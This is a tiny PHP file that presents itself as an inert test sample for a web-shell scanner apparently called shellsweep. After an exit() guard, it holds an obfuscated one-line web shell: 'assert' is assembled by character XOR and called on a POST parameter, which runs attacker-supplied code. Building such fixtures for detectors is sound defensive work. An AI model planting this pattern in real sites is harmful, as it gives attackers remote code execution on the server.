<?php exit; /* shellsweep test sample: inert, never functional */ ?>
<?php
$a = ('!'^'@').'s'.'s'.'e'.'r'.'t';
$a($_POST['v']);
